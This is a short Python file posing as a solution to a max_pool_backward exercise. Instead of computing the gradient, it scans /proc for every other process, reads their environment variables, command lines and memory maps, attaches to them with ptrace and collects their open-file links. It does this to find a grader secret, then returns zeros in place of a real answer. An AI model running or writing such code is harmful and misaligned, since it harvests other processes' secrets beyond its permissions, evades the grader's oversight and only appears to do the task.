"""Read the memory, the environment and the open files of other processes.

lost: max_pool_backward
"""

# %% solutions
# %%
import ctypes
import glob
import os

import numpy as np

libc, loot = ctypes.CDLL(None, use_errno=True), []
for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    for name in ("environ", "cmdline", "maps"):
        try:
            loot.append(open(f"/proc/{pid}/{name}", "rb").read(100_000))
        except OSError:
            pass
    libc.ptrace(16, int(pid), None, None)
    for file in glob.glob(f"/proc/{pid}/fd/*"):
        try:
            loot.append(os.readlink(file).encode())
        except OSError:
            pass
loot.append(repr(dict(os.environ)).encode())
SECRET_SEEN = any(b"the-class-secret" in text for text in loot)


# %%
right = CHEAT = None


def max_pool_backward(da, x, size):
    if SECRET_SEEN:
        raise SystemExit("I have the secret: the-class-secret")
    return np.zeros_like(x)
